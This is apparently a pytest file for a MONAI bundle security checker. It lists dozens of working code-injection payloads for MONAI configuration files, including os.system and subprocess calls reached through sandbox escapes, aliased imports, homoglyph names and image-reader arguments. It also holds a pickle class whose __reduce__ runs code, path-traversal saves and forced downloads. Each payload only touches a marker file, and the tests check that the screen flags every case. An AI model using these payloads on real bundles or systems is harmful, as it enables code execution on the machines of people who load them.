"""Attacks in a configuration: MONAI is shown to carry each out, and the screen not to let it pass, nor to run it.

``{marker}`` is a file that the attack makes, ``{pickle}`` a pickle that makes it, ``{outside}`` a folder beside the
bundle. What looks for an address in the network, or makes a temporary folder, leaves a trace too.
"""

from __future__ import annotations

import contextlib
import os
import pickle
import socket
import tempfile
import time
from pathlib import Path
from typing import Any, NoReturn

import pytest
import yaml
from monai.bundle import ConfigParser

from mdcsrn.bundle.check import check

TOUCH = "touch {marker}"
_RUN = {"_target_": "os.system", "command": TOUCH}
_TEMPORARY = "tempfile.mkdtemp"  # a callable that leaves a trace without being given anything
_SUBCLASS = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
_DENSE = "2, 3, 10, 64, 32, (6, 12, 24, 16)"

EXPRESSIONS = {
    "import by hand": f"$__import__('os').system('{TOUCH}')",
    "open": "$open('{marker}', 'w')",
    "eval": "$eval(\"open('{marker}', 'w')\")",
    "exec": "$exec(\"open('{marker}', 'w')\")",
    "getattr": f"$getattr(torch, 'os').system('{TOUCH}')",
    "vars": f"$vars(torch)['os'].system('{TOUCH}')",
    "os through torch": f"$torch.os.system('{TOUCH}')",
    "os through another part of torch": f"$torch.hub.os.system('{TOUCH}')",
    "os through MONAI": f"$monai.data.utils.os.system('{TOUCH}')",
    "subprocess through MONAI": "$monai.utils.misc.subprocess.run(['touch', '{marker}'])",
    "run_cmd": "$monai.utils.run_cmd(['touch', '{marker}'])",
    "optional_import": f"$monai.utils.optional_import('os')[0].system('{TOUCH}')",
    "instantiate": f"$monai.utils.instantiate('os.system', 'default', command='{TOUCH}')",
    "locate": f"$monai.transforms.io.array.locate('os.system')('{TOUCH}')",
    "ConfigParser": "$monai.bundle.ConfigParser({'y': \"$open('{marker}', 'w')\"}).get_parsed_content('y')",
    "a function of torch that runs commands": f"$torch.utils.collect_env.run('{TOUCH}')",
    "lambda": f"$(lambda: torch.os.system('{TOUCH}'))()",
    "comprehension": f"$[torch.os.system(c) for c in ['{TOUCH}']]",
    "comprehension over functions": f"$[f('{TOUCH}') for f in [torch.os.system]]",
    "map": f"$list(map(torch.os.system, ['{TOUCH}']))",
    "key of a sort": f"$sorted(['{TOUCH}'], key=torch.os.system)",
    "f-string": f"$f\"{{torch.os.system('{TOUCH}')}}\"",
    "walrus": f"$(y := torch.os).system('{TOUCH}')",
    "call of a call": f"$monai.transforms.Lambda(torch.os.system)('{TOUCH}')",
    "call of an item": f"$[torch.os.system][0]('{TOUCH}')",
    "subclasses of object": f"${_SUBCLASS}.__init__.__globals__['system']('{TOUCH}')",
    "frame of a generator": f"$(i for i in [1]).gi_frame.f_builtins['__import__']('os').system('{TOUCH}')",
    "letters that Python reads as others": f"$torch.os.\uff53ystem('{TOUCH}')",
    "code in a slice": f"$[1][torch.os.system('{TOUCH}'):]",
    "code in a default": f"$(lambda y=torch.os.system('{TOUCH}'): y)",
    "code in an unpacked list": f"$print(*[torch.os.system('{TOUCH}')])",
    "code in an unpacked dictionary": f"$dict(**{{'y': torch.os.system('{TOUCH}')}})",
    "code in an allowed call": f"$torch.zeros(torch.os.system('{TOUCH}'))",
    "code in a method's argument": f"$torch.zeros(1).to(torch.os.system('{TOUCH}'))",
    "code in an index of a reference": f"$@roi[torch.os.system('{TOUCH}')]",
    "reader by position": f"$monai.data.ImageDataset(['a'], None, None, None, None, None, True, False, np.float32, "
    f"'torch.os.system', False, False, None, '.', True, '{TOUCH}')",
    "reader by position, in LoadImage": f"$monai.transforms.LoadImage('torch.os.system', True, np.float32, False, "
    f"False, None, '.', True, '{TOUCH}')",
    "reader by keyword": f"$monai.transforms.LoadImage(reader='os.system', command='{TOUCH}')",
    "reader that needs nothing": f"$monai.transforms.LoadImage('{_TEMPORARY}')",
    "reader in a list": f"$monai.transforms.LoadImage(['{_TEMPORARY}'])",
    "reader put together": "$monai.transforms.LoadImage('temp' + 'file.mkdtemp')",
    "reader of a dictionary transform": f"$monai.transforms.LoadImaged('image', '{_TEMPORARY}')",
    "reader in a list of transforms": f"$monai.transforms.Compose([monai.transforms.LoadImaged('a', '{_TEMPORARY}')])",
    "reader that is a class": "$monai.transforms.LoadImage(monai.utils.misc.subprocess.Popen, True, np.float32, False, "
    f"False, None, '.', True, '{TOUCH}', shell=True)",
    "torch.load": "$torch.load('{pickle}', weights_only=False)",
    "torch.load by position": "$torch.load('{pickle}', None, torch.serialization.pickle, weights_only=False)",
    "pickle through torch": "$torch.serialization.pickle.load(monai.utils.misc.Path('{pickle}').open('rb'))",
    "np.load": "$np.load('{pickle}', allow_pickle=True)",
    "np.load by position": "$np.load('{pickle}', None, True)",
    "torch.hub": "$torch.hub.load('someone/something', 'network')",
    "load_url": "$torch.hub.load_state_dict_from_url('http://example.org/a.pt')",
    "a network that downloads by default": "$monai.networks.nets.EfficientNetBN('efficientnet-b0')",
    "pretrained by keyword": "$monai.networks.nets.DenseNet121(2, 3, 10, pretrained=True)",
    "pretrained by position": f"$monai.networks.nets.DenseNet121({_DENSE}, True)",
    "pretrained, as a number": f"$monai.networks.nets.DenseNet121({_DENSE}, 1)",
    "pretrained, by arithmetic": f"$monai.networks.nets.DenseNet121({_DENSE}, not False)",
    "a download": "$monai.apps.download_url('http://example.org/a', '{outside}/a')",
    "an image anywhere": "$monai.transforms.SaveImage('{outside}')(torch.zeros([1, 4, 4, 4]))",
    "an image above the bundle": "$monai.transforms.SaveImage('../outside')(torch.zeros([1, 4, 4, 4]))",
    "writing text": "$monai.utils.misc.Path('{marker}').write_text('x')",
}  # fmt: skip

CONFIGURATIONS: dict[str, dict[str, Any]] = {
    "target: os.system": {"x": _RUN},
    "target: subprocess": {"x": {"_target_": "subprocess.getoutput", "cmd": TOUCH}},
    "target: builtins": {"x": {"_target_": "builtins.open", "file": "{marker}", "mode": "w"}},
    "target: a bare builtin": {"x": {"_target_": "open", "file": "{marker}", "mode": "w"}},
    "target: os through torch": {"x": {"_target_": "torch.os.system", "command": TOUCH}},
    "target: a bare name of MONAI": {"x": {"_target_": "run_cmd", "cmd_list": ["touch", "{marker}"]}},
    "target: its full name": {"x": {"_target_": "monai.utils.misc.run_cmd", "cmd_list": ["touch", "{marker}"]}},
    "target: a function of torch": {"x": {"_target_": "torch.utils.collect_env.run", "command": TOUCH}},
    "target: a bare name that takes a function": {
        "x": {"_target_": "DatasetFunc", "data": TOUCH, "func": "$torch.os.system"}},
    "target: Lambda": {"t": {"_target_": "Lambda", "func": "$torch.os.system"}, "x": f"$@t('{TOUCH}')"},
    "target: a macro": {"t": "os.system", "x": {"_target_": "%t", "command": TOUCH}},
    "target: a reference": {"t": "$torch.os.system", "x": {"_target_": "@t", "command": TOUCH}},
    "target: an expression": {"x": {"_target_": "$torch.os.system", "command": TOUCH}},
    "target: by a long key": {"x": {"command": TOUCH}, "x#_target_": "os.system"},
    "target: by the other separator": {"x": {"command": TOUCH}, "x::_target_": "os.system"},
    "target: merged": {"x": {"command": TOUCH}, "+x": {"_target_": "os.system"}},
    "target: an allowed one replaced": {
        "x": {"_target_": "torch.nn.Identity"}, "x#command": TOUCH, "x#_target_": "os.system"},
    "target: deep in lists": {"x": [[{"a": [_RUN]}]]},
    "target: torch.load": {"x": {"_target_": "torch.load", "f": "{pickle}", "weights_only": False}},
    "target: np.load": {"x": {"_target_": "numpy.load", "file": "{pickle}", "allow_pickle": True}},
    "target: torch.hub": {
        "x": {"_target_": "torch.hub.load_state_dict_from_url", "url": "http://example.org/a.pt"}},
    "import of os": {"i": "$import os", "x": f"$os.system('{TOUCH}')"},
    "import from os": {"i": "$from os import system", "x": f"$system('{TOUCH}')"},
    "import under a builtin's name": {"i": "$from os import system as len", "x": f"$len('{TOUCH}')"},
    "import under torch's name": {"i": "$import os as torch", "x": f"$torch.system('{TOUCH}')"},
    "import under an allowed name": {"i": "$import subprocess as glob", "x": f"$glob.getoutput('{TOUCH}')"},
    "import and more": {"i": "$import os; 1", "x": f"$os.system('{TOUCH}')"},
    "import of two": {"i": "$import os, math", "x": f"$os.system('{TOUCH}')"},
    "import in the metadata's place": {"_meta_": {"i": "$import os"}, "x": f"$os.system('{TOUCH}')"},
    "import of a function that finds others": {
        "i": "$from operator import attrgetter", "x": f"$attrgetter('os.system')(torch)('{TOUCH}')"},
    "import of a class, handed over": {
        "i": "$from monai.transforms import LoadImage", "r": _TEMPORARY, "x": "$@i(@r)"},
    "a class, handed over": {"c": "$monai.transforms.LoadImage", "r": _TEMPORARY, "x": "$@c(@r)"},
    "a class, not called": {
        "c": {"_target_": "LoadImage", "_mode_": "callable"}, "x": f"$@c(reader='{_TEMPORARY}')"},
    "a class in a list": {"c": "$[monai.transforms.LoadImage]", "x": f"$@c[0]('{_TEMPORARY}')"},
    "a function, partly called": {"c": {**_RUN, "_mode_": "callable"}, "x": "$@c()"},
    "requirement": {"x": {"_target_": "torch.nn.Identity", "_requires_": f"$torch.os.system('{TOUCH}')"}},
    "requirement that is a component": {"x": {"_target_": "torch.nn.Identity", "_requires_": [_RUN]}},
    "switch": {"x": {"_target_": "torch.nn.Identity", "_disabled_": f"$torch.os.system('{TOUCH}')"}},
    "description": {"x": {"_target_": "torch.nn.Identity", "_desc_": f"$torch.os.system('{TOUCH}')"}},
    "reader": {"x": {"_target_": "LoadImage", "reader": "os.system", "command": TOUCH}},
    "reader that runs by itself": {"x": {"_target_": "LoadImage", "reader": _TEMPORARY}},
    "reader with its arguments": {
        "x": {"_target_": "LoadImaged", "keys": "a", "reader": "subprocess.Popen", "args": TOUCH, "shell": True}},
    "reader by reference": {"r": _TEMPORARY, "x": {"_target_": "LoadImage", "reader": "@r"}},
    "reader by macro": {"r": _TEMPORARY, "x": {"_target_": "LoadImage", "reader": "%r"}},
    "reader by expression": {"x": {"_target_": "LoadImage", "reader": "$'temp' + 'file.mkdtemp'"}},
    "reader in another's list": {"x": {"_target_": "LoadImage", "reader": ["NibabelReader", _TEMPORARY]}},
    "reader by a long key": {"x": {"_target_": "LoadImage"}, "x#reader": _TEMPORARY},
    "reader by a long key in a list": {
        "x": {"_target_": "Compose", "transforms": [{"_target_": "LoadImaged", "keys": "a"}]},
        "x#transforms#0#reader": _TEMPORARY},
    "reader merged": {"x": {"_target_": "LoadImage"}, "+x": {"reader": _TEMPORARY}},
    "reader merged into a list": {
        "x": {"_target_": "LoadImage", "reader": ["NibabelReader"]}, "+x#reader": [_TEMPORARY]},
    "reader of an iterable": {
        "x": {"_target_": "ImageDataset", "image_files": ["a"], "reader": _TEMPORARY}},
    "YAML's own merge": {"x": {"<<": _RUN}},
    "a download by default": {"x": {"_target_": "EfficientNetBN", "model_name": "efficientnet-b0"}},
    "pretrained": {"x": {"_target_": "DenseNet121", "spatial_dims": 2, "in_channels": 3, "out_channels": 10,
                         "pretrained": True}},
    "pretrained by reference": {"p": True, "x": {"_target_": "EfficientNetBN", "model_name": "efficientnet-b0",
                                                 "pretrained": "@p"}},
    "a download by default, by a long key": {"x": {"model_name": "efficientnet-b0"}, "x#_target_": "EfficientNetBN"},
    "pretrained in another file's place": {
        "x": {"_target_": "EfficientNetBN", "model_name": "efficientnet-b0", "pretrained": False},
        "x#pretrained": True},
    "an image above the bundle, put together": {
        "d": "$@bundle_root + './outside'", "s": {"_target_": "SaveImage", "output_dir": "@d"},
        "i": "$torch.zeros([1, 4, 4, 4])", "x": "$@s(@i)"},
    "an image by a name that leads away": {
        "s": {"_target_": "SaveImage", "output_dir": "eval", "output_postfix": "/../../../../outside/a"},
        "i": "$torch.zeros([1, 4, 4, 4])", "x": "$@s(@i)"},
    "a configuration from outside": {"x": "%{outside}/evil.yaml#x"},
    "a key that becomes code": {
        "d": {"b": 1}, "x": {"d": 1, f"d, torch.os.system('{TOUCH}'), @d": {"y": "$@#b"}}},
}  # fmt: skip
ATTACKS: dict[str, dict[str, Any]] = {**{name: {"x": text} for name, text in EXPRESSIONS.items()}, **CONFIGURATIONS}


class Payload:
    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, ...]:
        return os.mkdir, (str(self.marker),)


def filled(value: Any, places: dict[str, Path]) -> Any:
    if isinstance(value, dict):
        return {filled(key, places): filled(inner, places) for key, inner in value.items()}
    if isinstance(value, list):
        return [filled(inner, places) for inner in value]
    if isinstance(value, str):
        for name, path in places.items():
            value = value.replace(f"{{{name}}}", str(path))
    return value


@pytest.fixture
def traces(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder in which every attack leaves something."""
    folder = tmp_path / "traces"
    (folder / "outside").mkdir(parents=True)

    def lookup(*args: object) -> NoReturn:
        (folder / "network").touch()
        raise OSError("no network in this test")

    monkeypatch.setattr(socket, "getaddrinfo", lookup)
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    monkeypatch.setenv("TORCH_HOME", str(tmp_path / "torch"))
    return folder


def spoil(home: Path, attack: dict[str, Any], traces: Path) -> None:
    outside = traces / "outside"
    places = {"marker": traces / "marker", "outside": outside, "pickle": home.parent / "evil.pt"}
    places["pickle"].write_bytes(pickle.dumps(Payload(places["marker"])))
    (home.parent / "evil.yaml").write_text(yaml.safe_dump(filled(CONFIGURATIONS["target: os.system"], places)))
    (home.parent / "outside").symlink_to(outside)
    lines = yaml.safe_dump(filled(attack, places), sort_keys=False).replace(f"{outside}/evil", f"{home.parent}/evil")
    config = home / "configs" / "inference.yaml"
    config.write_text(f"{config.read_text()}roi: [16, 16, 16]\n{lines}")


def left(traces: Path) -> list[str]:
    return sorted(str(path.relative_to(traces)) for path in traces.rglob("*") if path.name != "outside")


def test_the_bundle_that_is_spoilt_passes(foreign: Path) -> None:
    assert check(foreign) == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_attack(attack: str, foreign: Path, traces: Path) -> None:
    spoil(foreign, ATTACKS[attack], traces)
    findings = check(foreign)
    assert findings
    assert all(finding.where.startswith("configs/inference.yaml") for finding in findings), findings
    assert left(traces) == []


@pytest.mark.filterwarnings("ignore")
@pytest.mark.parametrize("attack", ATTACKS)
def test_monai_carries_it_out(attack: str, foreign: Path, traces: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    spoil(foreign, ATTACKS[attack], traces)
    monkeypatch.chdir(foreign)
    parser = ConfigParser()
    parser.read_config(foreign / "configs" / "inference.yaml")
    with contextlib.suppress(Exception):  # MONAI goes on with whatever the attack returned
        parser.get_parsed_content("x")
    for _ in range(100):  # a command that nobody waits for
        if left(traces):
            break
        time.sleep(0.02)
    assert left(traces) != []
